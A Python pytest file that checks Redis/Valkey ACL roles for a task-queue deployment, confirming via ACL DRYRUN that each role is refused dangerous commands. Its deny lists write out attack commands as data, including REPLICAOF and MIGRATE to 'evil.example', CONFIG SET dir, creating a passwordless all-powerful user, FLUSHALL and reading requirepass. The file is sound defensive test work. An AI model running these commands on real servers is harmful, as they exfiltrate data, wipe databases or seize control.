"""What a role may not do: the attacks of a program that has its password, on real Redis users."""

from __future__ import annotations

import tempfile
from collections.abc import AsyncIterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Final

import pytest
from redis.asyncio import Redis
from redis.exceptions import AuthenticationError, ResponseError

from batchling_client.operate.redis_roles import Role
from batchling_client.wire.deployment.connection import connect
from batchling_client.wire.keys import KEYSPACE, Access, KeyKind, Keys, broker_prefix
from tests.deployment import stop

from .ruled import SERVERS, Users

KEYS: Final = Keys("default")
QUEUE: Final = broker_prefix("default") + "batchling"
CONTROL: Final = broker_prefix("default") + "/0.celery.pidbox"
READS: Final[Mapping[str, tuple[str, ...]]] = {
    "string": ("GET",),
    "hash": ("HGETALL",),
    "zset": ("ZRANGE", "0", "-1"),
    "list": ("LRANGE", "0", "-1"),
    "set": ("SMEMBERS",),
    "stream": ("XRANGE", "-", "+"),
}
WRITES: Final[Mapping[str, tuple[str, ...]]] = {
    "string": ("SET", "forged"),
    "hash": ("HSET", "state", "ended"),
    "zset": ("ZADD", "0", "forged"),
    "list": ("RPUSH", "forged"),
    "set": ("SADD", "forged"),
    "stream": ("XADD", "*", "ids", "forged"),
}
BY_ACCESS: Final[Mapping[Access, tuple[bool, bool, bool]]] = {
    Access.NONE: (False, False, False),
    Access.READ: (True, False, False),
    Access.WRITE: (False, True, True),
    Access.DROP: (True, False, True),
    Access.ALL: (True, True, True),
}
"""Whether such keys can be read, written, deleted."""

REFUSED: Final = "ACL failure in script|user executing the script"
"""What Valkey and Redis say of a command in a script that its caller may not run."""
NOBODY: Final[tuple[tuple[str, ...], ...]] = (
    ("CONFIG", "SET", "dir", "/tmp"),
    ("ACL", "SETUSER", "evil", "on", "nopass", "~*", "+@all"),
    ("ACL", "GETUSER", "test"),
    ("ACL", "LIST"),
    ("FLUSHALL",),
    ("FLUSHDB",),
    ("SWAPDB", "0", "1"),
    ("SHUTDOWN",),
    ("MONITOR",),
    ("DEBUG", "SLEEP", "1"),
    ("MODULE", "LIST"),
    ("REPLICAOF", "evil.example", "6379"),
    ("MIGRATE", "evil.example", "6379", KEYS.schedule, "0", "1000"),
    ("CLIENT", "LIST"),
    ("CLIENT", "KILL", "TYPE", "normal"),
    ("CLIENT", "PAUSE", "1000"),
    ("CLIENT", "TRACKING", "ON", "BCAST"),
    ("SCAN", "0"),
    ("KEYS", "*"),
    ("RANDOMKEY",),
    ("DBSIZE",),
    ("SCRIPT", "FLUSH"),
    ("SCRIPT", "KILL"),
    ("FUNCTION", "FLUSH"),
    ("FUNCTION", "LOAD", "#!lua name=evil"),
    ("GET", "other:app"),
    ("SET", "other:app", "x"),
    ("HGETALL", Keys("other").batch("b1")),
    ("HSET", Keys("other").batch("b1"), "state", "ended"),
    ("LPUSH", broker_prefix("other") + "batchling", "x"),
    ("PUBLISH", broker_prefix("other") + "/0.celery.pidbox", "x"),
    ("SUBSCRIBE", "other:channel"),
    ("PSUBSCRIBE", "*"),
    ("EVAL", "return redis.call('SET', 'other:app', 'x')", "1", "other:app"),
)
"""What no role may do, workers included."""
MORE: Final[Mapping[Role, tuple[tuple[str, ...], ...]]] = {
    Role.WORKER: (),
    Role.CLIENT: (
        ("CONFIG", "GET", "requirepass"),
        ("LPUSH", QUEUE, "garbage"),
        ("LRANGE", QUEUE, "0", "-1"),
        ("PUBLISH", CONTROL, "shutdown"),
        ("PUBLISH", broker_prefix("default") + "/0.celeryev/worker.heartbeat", "{}"),
        ("PUBLISH", KEYS.notice("m1"), ""),
        ("SUBSCRIBE", CONTROL),
        ("EVALSHA", "0" * 40, "1", "other:app"),
    ),
    Role.OPERATOR: (
        ("LPUSH", QUEUE, "garbage"),
        ("PUBLISH", CONTROL, "shutdown"),
        ("SUBSCRIBE", KEYS.notice("m1")),
    ),
    Role.DASHBOARD: (
        ("CONFIG", "GET", "requirepass"),
        ("LPUSH", QUEUE, "garbage"),
        ("DEL", QUEUE),
        ("SUBSCRIBE", KEYS.notice("m1")),
    ),
    Role.VIEWER: (
        ("CONFIG", "GET", "requirepass"),
        ("LPUSH", QUEUE, "garbage"),
        ("EVAL", "return 1", "1", KEYS.batch("b1")),
    ),
}
"""What each role may not do beyond that and beyond the table of keys."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Admin:
    """A Redis with a user for each role, and a client that may do everything."""

    users: Users
    redis: Redis


@pytest.fixture(params=SERVERS)
async def admin(request: pytest.FixtureRequest) -> AsyncIterator[Admin]:
    with tempfile.TemporaryDirectory(prefix="bl-") as home:
        users = Users(home=Path(home), which=request.param)
        process = await users.start()
        redis = connect(users.url)
        try:
            yield Admin(users=users, redis=redis)
        finally:
            await redis.aclose()
            stop(process)


async def may(redis: Redis, role: Role, *words: str) -> bool:
    """Return whether a role's user may run a command, without running it."""
    said = await redis.execute_command("ACL", "DRYRUN", role, *words)
    return said in (b"OK", "OK", True)


def access(role: Role, kind: KeyKind) -> Access:
    if role is Role.WORKER:
        return Access.ALL
    if role is Role.VIEWER:
        return Access.READ if BY_ACCESS[kind.dashboard][0] else Access.NONE
    given: Access = getattr(kind, role)
    return given


def key_of(kind: KeyKind) -> str:
    single = getattr(KEYS, kind.word, None)
    return single if isinstance(single, str) else f"{KEYS.prefix}{kind.word}:x"


async def test_every_role_may_do_with_every_family_of_keys_what_the_table_says(admin: Admin) -> None:
    for role in Role:
        for kind in KEYSPACE:
            (read, *rest), (write, *values) = READS[kind.redis_type], WRITES[kind.redis_type]
            key = key_of(kind)
            found = (
                await may(admin.redis, role, read, key, *rest),
                await may(admin.redis, role, write, key, *values),
                await may(admin.redis, role, "UNLINK", key),
            )
            assert found == BY_ACCESS[access(role, kind)], (role, kind.word)
            assert not await may(admin.redis, role, read, key.replace("default", "other"), *rest)


async def test_no_role_may_do_what_is_not_its_own(admin: Admin) -> None:
    for role in Role:
        for words in (*NOBODY, *MORE[role]):
            # What a script does is not seen without running it.
            if words[0] != "EVAL" or role is Role.VIEWER:
                assert not await may(admin.redis, role, *words), (role, words)


async def test_a_script_may_do_no_more_than_its_caller(admin: Admin) -> None:
    attacks = {
        "redis.call('SET', KEYS[1], 'forged')": KEYS.result("x"),
        "redis.call('GET', KEYS[1])": KEYS.credential("f"),
        "redis.call('LRANGE', KEYS[1], 0, -1)": KEYS.rows("b"),
        "redis.call('SET', 'other:app', 'x')": KEYS.result("x"),
        "redis.call('PUBLISH', '" + CONTROL + "', 'shutdown')": KEYS.result("x"),
    }
    async with connect(admin.users.at(Role.CLIENT)) as client:
        for text, key in attacks.items():
            with pytest.raises(ResponseError, match=REFUSED):
                await client.execute_command("EVAL", f"return {text}", 1, key)

    assert await admin.redis.exists(KEYS.result("x"), "other:app") == 0


async def test_nobody_logs_in_as_a_user_without_a_password(admin: Admin) -> None:
    line = (Path(__file__).parents[2] / "deploy" / "acl" / "client.acl").read_text()
    _, *words = _arguments(line)
    await admin.redis.execute_command("ACL", "SETUSER", *words)

    for password in ("", "client", "batchling-client"):
        with pytest.raises(AuthenticationError):
            await admin.redis.execute_command("AUTH", "batchling-client", password)


def _arguments(line: str) -> list[str]:
    """Split a line of an ACL file: a selector is one argument."""
    found: list[str] = []
    for word in line.split():
        if found and found[-1].startswith("(") and not found[-1].endswith(")"):
            found[-1] += f" {word}"
        else:
            found.append(word)
    return found
